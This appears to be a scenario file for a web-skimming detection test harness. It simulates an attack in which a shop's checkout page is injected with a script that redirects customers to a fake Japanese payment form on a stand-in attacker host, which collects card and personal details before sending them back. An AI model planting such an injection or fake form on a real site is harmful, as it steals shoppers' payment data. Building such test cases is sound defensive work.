import { holds, skimmer } from '../behaviour.ts';
import { bodies } from '../site/arrivals.ts';
import { directFields } from '../site/pages.ts';

export default skimmer({
  id: 'redirect-to-fake-page',
  why: "The payment page sends the customer to a copy of it on the attacker's host, which sends them back for the real payment (Japan 2018-19).",
  covers: ['injection: fake form', 'hard: overlay', 'trigger: once'],
  base: 'hosted',
  install: (site) => {
    site.serve(
      'evil/secure/payment',
      `<!doctype html><meta charset="utf-8"><title>お支払い｜若葉自然食品</title><link rel="stylesheet" href="${site.origins.shop}/assets/shop.css"><h1>お届け先とお支払い</h1><form method="post" action="/secure/next"><label>お名前（姓）<input id="family-name" name="family_name"></label><label>郵便番号<input id="postcode" name="postal_code"></label><label>メールアドレス<input id="email" name="email"></label><fieldset><legend>クレジットカード</legend>${directFields}</fieldset><button id="pay">この内容で注文する</button></form>`,
    );
    site.serve('evil/secure/next', {
      status: 303,
      headers: { location: `${site.origins.shop}/checkout/payment?retry=1` },
    });
    site.alter('shop/checkout/payment', (html, { url }) =>
      url.searchParams.has('retry')
        ? html
        : html.replace(
            '<head>',
            `<head><script>location.replace('${site.origins.evil}/secure/payment')</script>`,
          ),
    );
  },
  proof: holds((arrived) => bodies(arrived)),
});
